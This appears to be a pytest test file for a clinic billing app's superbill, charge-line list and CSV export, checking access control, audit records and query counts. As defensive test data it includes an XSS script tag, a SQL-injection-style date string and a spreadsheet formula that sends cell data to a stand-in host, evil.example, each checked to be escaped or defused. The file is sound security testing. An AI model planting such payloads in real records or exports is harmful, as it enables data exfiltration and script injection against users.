"""Billing pages: the superbill of a visit, the charge lines and the biller's CSV
(DOMAIN.md §7 access records, §8 IDOR and spreadsheet formula injection)."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from accounts.models import AccessEvent
from billing.models import ChargeLine
from billing.services import charge_lines_create, csv_safe
from tests.billing.conftest import make_visit, s1_visit, sign
from tests.factories import PatientFactory


def signed_s1(clinic, clinician, **kw):
    visit = s1_visit(clinic, clinician, **kw)
    charge_lines_create(visit=visit)
    return sign(visit)


def lines_for(clinic, clinician, n, *, day=dt.date(2026, 11, 20)):
    """n signed visits of n patients, one 97140 line each."""
    visits = []
    for _ in range(n):
        patient = PatientFactory(clinic=clinic)
        visits.append(signed_s1(clinic, clinician, patient=patient, day=day))
    return visits


def superbill_url(visit):
    return reverse("superbill", args=[visit.pk])


RANGE = {"from": "2026-11-01", "to": "2026-11-30"}


# --- superbill ------------------------------------------------------------------------------------


def test_the_superbill_of_a_draft_is_marked_as_an_estimate(clinic, pt, pt_client):
    visit = s1_visit(clinic, pt)
    response = pt_client.get(superbill_url(visit))
    assert response.status_code == 200
    text = response.text
    assert "Not signed — estimate" in text
    assert visit.patient.last_name in text and visit.patient.mrn in text
    assert "Medicare Part B" in text
    assert f"NPI {pt.npi}" in text
    assert "M54.2" in text and "Z98.1" in text
    assert "97140" in text and "GP" in text and "$27.72" in text
    assert AccessEvent.objects.filter(
        user=pt, action="view", object_type="Visit", object_id=str(visit.pk), patient=visit.patient
    ).exists()


def test_the_superbill_of_a_signed_visit_shows_its_charge_lines(clinic, pt, auditor_client):
    visit = signed_s1(clinic, pt)
    response = auditor_client.get(superbill_url(visit))
    assert response.status_code == 200
    assert "Not signed" not in response.text
    assert "Charge lines" in response.text
    assert "$27.72" in response.text and "1,2" in response.text


def test_the_superbill_is_readable_by_every_role_of_the_clinic(
    clinic, pt, pt_client, pta_client, admin_client_, auditor_client
):
    visit = signed_s1(clinic, pt)
    for client in (pt_client, pta_client, admin_client_, auditor_client):
        assert client.get(superbill_url(visit)).status_code == 200


def test_another_clinics_superbill_is_not_found(clinic, pt, outsider_client):
    # DOMAIN.md §8: insecure direct object references
    visit = signed_s1(clinic, pt)
    for method in (outsider_client.get, outsider_client.post):
        response = method(superbill_url(visit))
        assert response.status_code == 404
        assert visit.patient.last_name not in response.text


def test_the_superbill_is_read_only(clinic, pt, pt_client, auditor_client):
    visit = s1_visit(clinic, pt)
    assert pt_client.post(superbill_url(visit)).status_code == 405
    assert auditor_client.post(superbill_url(visit)).status_code == 405


def test_the_superbill_escapes_patient_text(clinic, pt, pt_client):
    # DOMAIN.md §8: stored XSS in patient fields
    visit = s1_visit(clinic, pt)
    visit.patient.last_name = "<script>alert(1)</script>"
    visit.patient.save(update_fields=["last_name"])
    text = pt_client.get(superbill_url(visit)).text
    assert "<script>alert(1)</script>" not in text
    assert "&lt;script&gt;" in text


@pytest.mark.parametrize("extra_blocks", [0, 10])
def test_the_superbill_costs_the_same_queries_with_a_longer_note(
    clinic, pt, pt_client, django_assert_max_num_queries, extra_blocks
):
    from tests.billing.conftest import block

    visit = s1_visit(clinic, pt)
    for n in range(extra_blocks):
        block(visit, f"10:{n:02d}", f"10:{n + 1:02d}", code="97110")
    with django_assert_max_num_queries(21):
        # session, user, clinic, visit with patient/plan/clinician, diagnoses, time blocks,
        # untimed services, techniques, payer profile, codes, NCCI (two codes or more), MUE,
        # conversion factor, RVUs,
        # KX threshold, KX year-to-date, the access event (savepoint, advisory lock on
        # PostgreSQL, last digest, insert, release)
        assert pt_client.get(superbill_url(visit)).status_code == 200


# --- charge lines list ----------------------------------------------------------------------------


def test_admins_see_every_charge_line_of_the_clinic_in_the_range(clinic, pt, dc, admin_client_):
    mine = lines_for(clinic, pt, 1)[0]
    other = lines_for(clinic, dc, 1)[0]
    outside = lines_for(clinic, pt, 1, day=dt.date(2026, 10, 31))[0]
    response = admin_client_.get(reverse("charge_lines"), RANGE)
    assert response.status_code == 200
    shown = list(response.context["page"])
    assert {line.visit_id for line in shown} == {mine.pk, other.pk}
    assert outside.patient.last_name not in response.text
    assert "2 lines from Nov 1, 2026 to Nov 30, 2026" in response.text
    assert AccessEvent.objects.filter(action="view", detail__startswith="charge lines").exists()


def test_clinicians_see_only_their_own_lines(clinic, pt, dc, pt_client, auditor_client):
    lines_for(clinic, pt, 1)
    lines_for(clinic, dc, 1)
    own = pt_client.get(reverse("charge_lines"), RANGE)
    assert {line.rendering_clinician_id for line in own.context["page"]} == {pt.pk}
    assert "Your own charge lines" in own.text
    assert len(auditor_client.get(reverse("charge_lines"), RANGE).context["page"]) == 2


def test_another_clinics_lines_never_show(clinic, pt, outsider_client):
    visit = lines_for(clinic, pt, 1)[0]
    response = outsider_client.get(reverse("charge_lines"), RANGE)
    assert response.status_code == 200
    assert visit.patient.last_name not in response.text
    csv_text = b"".join(outsider_client.get(reverse("charge_lines_csv"), RANGE)).decode()
    assert visit.patient.last_name not in csv_text


def test_it_defaults_to_the_current_month(clinic, pt, admin_client_):
    response = admin_client_.get(reverse("charge_lines"))
    assert response.status_code == 200
    start, end = response.context["form"].range
    assert start.day == 1 and start <= end


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"from": "2026-13-01", "to": "2026-11-30"}, "from", "Enter a date as YYYY-MM-DD"),
        ({"from": "yesterday", "to": "2026-11-30"}, "from", "Enter a date as YYYY-MM-DD"),
        ({"from": "2026-11-01", "to": "1' OR '1'='1"}, "to", "Enter a date as YYYY-MM-DD"),
        ({"from": "2026-11-30", "to": "2026-11-01"}, "to", "on or after the From date"),
    ],
)
def test_bad_dates_get_a_message_next_to_the_field(admin_client_, params, field, message):
    response = admin_client_.get(reverse("charge_lines"), params)
    assert response.status_code == 200
    assert response.context["page"] is None
    assert message in response.context["form"].errors[field][0]
    assert message in response.text


def test_a_csv_with_bad_dates_sends_back_to_the_form(admin_client_):
    response = admin_client_.get(reverse("charge_lines_csv"), {"from": "2026-02-30", "to": ""})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("charge_lines") + "?from=2026-02-30")


def test_the_list_is_paginated(clinic, pt, admin_client_):
    lines_for(clinic, pt, 51)
    first = admin_client_.get(reverse("charge_lines"), RANGE)
    assert len(first.context["page"]) == 50
    assert "page 1 of 2" in first.text
    second = admin_client_.get(reverse("charge_lines"), {**RANGE, "page": 2})
    assert len(second.context["page"]) == 1


@pytest.mark.parametrize("n", [1, 8])
def test_the_list_costs_the_same_queries_with_more_lines(
    clinic, pt, admin_client_, django_assert_max_num_queries, n
):
    lines_for(clinic, pt, n)
    with django_assert_max_num_queries(10):
        # session, user, clinic (time zone), count, the page of lines with patient and
        # clinician, the access event (savepoint, advisory lock on PostgreSQL, last digest,
        # insert, release)
        response = admin_client_.get(reverse("charge_lines"), RANGE)
    assert len(response.context["page"]) == n


# --- CSV ------------------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def test_the_csv_has_one_row_per_charge_line_and_is_recorded_as_an_export(
    clinic, pt, admin_client_, clinic_admin
):
    visit = lines_for(clinic, pt, 1)[0]
    response = admin_client_.get(reverse("charge_lines_csv"), RANGE)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "charge-lines-2026-11-01-to-2026-11-30.csv" in response["Content-Disposition"]
    header, row = read_csv(response)
    assert header[:5] == ["Date of service", "Patient", "MRN", "Payer", "Code"]
    assert row == [
        "2026-11-20",
        visit.patient.full_name,
        visit.patient.mrn,
        "Medicare Part B",
        "97140",
        "GP",
        "1",
        "15",
        pt.get_full_name(),
        pt.npi,
        "1,2",
        "M54.2,Z98.1",
        "27.72",
    ]
    event = AccessEvent.objects.get(action="export")
    assert event.user == clinic_admin
    assert event.detail == "charge lines CSV 2026-11-01 to 2026-11-30"


def test_the_csv_defuses_spreadsheet_formulas(clinic, pt, admin_client_):
    # DOMAIN.md §8: spreadsheet formula injection in CSV exports
    patient = PatientFactory(
        clinic=clinic,
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        last_name="+Smith",
        mrn="@SUM(1+1)",
    )
    signed_s1(clinic, pt, patient=patient)
    (_, row) = read_csv(admin_client_.get(reverse("charge_lines_csv"), RANGE))
    assert row[1] == "'" + patient.full_name
    assert row[1].startswith("'=HYPERLINK(")
    assert row[2] == "'@SUM(1+1)"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Smith", "Smith"),
        ("27.72", "27.72"),
        (None, ""),
    ],
)
def test_csv_cells_starting_a_formula_are_quoted(value, expected):
    assert csv_safe(value) == expected


def test_clinicians_export_only_their_own_lines(clinic, pt, dc, pt_client):
    lines_for(clinic, pt, 1)
    lines_for(clinic, dc, 2)
    rows = read_csv(pt_client.get(reverse("charge_lines_csv"), RANGE))[1:]
    assert {row[9] for row in rows} == {pt.npi} and len(rows) == 1


@pytest.mark.parametrize("n", [1, 10])
def test_the_csv_costs_the_same_queries_with_more_lines(
    clinic, pt, admin_client_, django_assert_max_num_queries, n
):
    lines_for(clinic, pt, n)
    with django_assert_max_num_queries(9):
        # session, user, clinic (time zone), the access event (savepoint, advisory lock on
        # PostgreSQL, last digest, insert, release), the lines with patient and clinician
        rows = read_csv(admin_client_.get(reverse("charge_lines_csv"), RANGE))
    assert len(rows) == n + 1


def test_fees_left_unknown_are_blank_in_the_csv(clinic, pt, admin_client_):
    visit = make_visit(clinic, pt)
    from tests.billing.conftest import block

    block(visit, "09:00", "09:15", code="97110")
    charge_lines_create(visit=visit)
    sign(visit)
    (_, row) = read_csv(admin_client_.get(reverse("charge_lines_csv"), RANGE))
    assert (row[4], row[-1]) == ("97110", "")
    assert ChargeLine.objects.get().fee_estimate is None
